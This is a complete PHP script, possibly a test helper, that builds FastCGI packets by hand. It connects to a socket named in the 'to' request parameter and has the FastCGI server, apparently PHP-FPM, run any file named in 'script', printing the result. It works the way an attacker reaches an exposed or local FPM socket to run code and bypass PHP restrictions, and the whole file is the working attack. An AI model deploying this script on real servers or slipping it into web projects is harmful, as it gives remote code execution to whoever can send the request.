// SPDX-License-Identifier: GPL-2.0-or-later
// Speaks FastCGI to ?to=tcp://HOST:PORT or unix://PATH, as PHP's own attacker would: has it run ?script=, and prints
// what that printed, or "refused: WHY".
function record($type, $content)
{
    return pack('CCnnCC', 1, $type, 1, strlen($content), 0, 0) . $content;
}
function pair($name, $value)
{
    $out = '';
    foreach ([$name, $value] as $word)
        $out .= strlen($word) < 128 ? chr(strlen($word)) : pack('N', strlen($word) | 0x80000000);
    return $out . $name . $value;
}
$socket = @stream_socket_client($_GET['to'], $code, $why, 5);
if (!$socket)
    exit("refused: $why");
stream_set_timeout($socket, 10);
$params = '';
foreach (['SCRIPT_FILENAME' => $_GET['script'], 'REQUEST_METHOD' => 'GET', 'SCRIPT_NAME' => '/x.php', 'GATEWAY_INTERFACE' => 'CGI/1.1',
    'REDIRECT_STATUS' => '200', 'SERVER_PROTOCOL' => 'HTTP/1.1', 'QUERY_STRING' => '', 'REQUEST_URI' => '/x.php'] as $name => $value)
    $params .= pair($name, $value);
fwrite($socket, record(1, pack('nCCCCCC', 1, 0, 0, 0, 0, 0, 0)) . record(4, $params) . record(4, '') . record(5, ''));
$out = '';
while (strlen($head = (string)stream_get_contents($socket, 8)) === 8) {
    $h = unpack('Cversion/Ctype/nid/nlength/Cpadding', $head);
    $content = $h['length'] ? stream_get_contents($socket, $h['length']) : '';
    if ($h['padding'])
        stream_get_contents($socket, $h['padding']);
    if ($h['type'] === 6)
        $out .= $content;
    if ($h['type'] === 3)
        break;
}
$at = strpos($out, "\r\n\r\n");
echo $at === false ? "no answer: $out" : substr($out, $at + 4);
